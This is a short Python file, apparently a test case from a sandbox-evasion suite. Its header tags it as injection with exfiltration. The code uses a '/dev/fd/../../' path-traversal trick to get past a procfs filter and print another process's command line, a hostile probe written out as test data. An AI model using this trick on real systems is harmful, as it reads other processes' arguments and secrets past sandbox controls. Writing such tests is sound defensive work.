# family: injection
# filterfamily: proc
# tries: reach another process's command line in procfs through /dev/fd and two parent steps, and print it
# source: none
# exfil: yes
import sys

decoy = sys.argv[7]
with open("/dev/fd/../../" + decoy + "/cmdline", "rb") as f:
    print(f.read().replace(b"\0", b" ").decode(errors="replace"))
